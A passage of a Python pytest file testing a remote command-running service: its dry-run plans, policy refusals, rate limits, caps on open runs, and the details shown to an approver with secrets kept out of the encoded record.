    world = make_world()
    await fill(world)
    (tmp_path / "script").write_text(PIPED)
    world.blobs.scripts["a" * 64] = tmp_path / "script"
    told = await planned(world, RunRequest("ws1", Command(script=BlobRef("a" * 64, 9))))
    assert told.problem is not None and told.problem.kind is Kind.POLICY
    assert (told.unjudged, told.would_start, told.verdicts[0].rule) == (False, False, "plain-http")
    world.blobs.missing.add("c" * 64)
    asked = RunRequest("ws1", Command(script=BlobRef("c" * 64, 9)))
    unseen = await planned(world, asked)
    assert unseen.unjudged and not unseen.would_start
    assert unseen.problem == await refused(world, asked)
    files = RunRequest("ws1", Command(shell="true"), files=BlobRef("c" * 64, 9))
    assert (await planned(world, files)).would_start, "files needn't be there yet"


@pytest_twisted.ensureDeferred
async def test_a_plan_says_what_comes_too_soon_and_counts_for_nothing(make_world: MakeWorld) -> None:
    world = make_world(client={"*": ClientPolicy(machines_at_once=2, jobs_per_minute=3)})
    (agent, *_) = await fill(world, "a", "b")
    true = Command(shell="true")
    for _ in range(9):
        assert (await planned(world, RunRequest("a,b", true))).would_start
    uuid = await pass_(world, RunRequest("a", true))
    for asked, detail in (
        (RunRequest("a,b", true), "joshua@mba may use 2 machines at once: 1 are busy, and this needs 2"),
        (RunRequest("b", true), None),
    ):
        told = await planned(world, asked)
        assert (told.problem and told.problem.detail) == detail
        assert told.would_start == (detail is None)
    agent.ended(uuid)
    await world.over(uuid)
    assert (await planned(world, RunRequest("a,b", true))).would_start
    uuid = await pass_(world, RunRequest("a", true))
    agent.ended(uuid)
    await world.over(uuid)
    told = await planned(world, RunRequest("a,b", true))
    assert told.problem == await refused(world, RunRequest("a,b", true))
    assert told.problem is not None and (told.problem.kind, told.problem.hint) == (Kind.RATE_LIMITED, "again in 21 s")
    assert [machine.name for machine in told.machines] == ["a", "b"]
    assert (await planned(world, RunRequest("a", true))).would_start
    assert (await planned(world, RunRequest("a,b", true), ANN)).would_start
    blocked = await planned(world, msgspec.structs.replace(BLOCKED, target="a,b"))
    assert blocked.problem is not None and blocked.problem.kind is Kind.POLICY, "as a run would be"


@pytest_twisted.ensureDeferred
async def test_a_plan_says_that_too_much_is_under_way(make_world: MakeWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(open_runs, "MAX_OPEN_EACH", 1)
    world = make_world()
    await fill(world)
    asked = RunRequest("ws1", Command(shell="true"))
    assert (await planned(world, asked)).would_start
    await pass_(world, asked)
    told = await planned(world, asked)
    assert told.problem == await refused(world, asked)
    assert told.problem is not None and told.problem.kind is Kind.RATE_LIMITED and not told.would_start


@pytest_twisted.ensureDeferred
async def test_who_approves_is_told_all_that_the_run_would_do(make_world: MakeWorld, tmp_path: Path) -> None:
    world = make_world(force="approve")
    await fill(world)
    (tmp_path / "script").write_text(f"#!/bin/sh\ncd tools\n{PIPED}\n")
    world.blobs.scripts["a" * 64] = tmp_path / "script"
    script = Command(script=BlobRef("a" * 64, 9, "deploy.sh"))
    asked = RunRequest(
        "ws1",
        script,
        force=True,
        cwd="/etc",
        env={"B": "secret", "A" * 300: "secret"},
        stdin=True,
        files=BlobRef("b" * 64, 9),
    )
    await refused(world, asked)
    (run,) = (each.run for each in world.overrides._overrides.values())
    assert (run.command, run.rules, run.where) == ("(script deploy.sh)", ("plain-http",), (FETCHED,))
    assert (run.cwd, run.env, run.stdin, run.files) == ("/etc", ("A" * 200 + "…", "B"), True, True)
    assert b"secret" not in msgspec.json.encode(run)


@pytest_twisted.ensureDeferred
async def test_what_waits_keeps_little_of_a_large_run(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    names = [f"m{number:03}" for number in range(MAX_TOLD + 5)]
    await world.load()
    for name in names:
        await world.join(name)
    await refused(world, RunRequest("all", Command(shell=f"{PIPED}; echo {'x' * MAX_COMMAND}"), force=True))
    (waiting,) = world.overrides._overrides.values()
    assert (waiting.run.machines, waiting.run.count) == (tuple(names[:MAX_TOLD]), len(names))
    assert len(waiting.run.command) == MAX_COMMAND + 1 and waiting.run.command.endswith("x…")
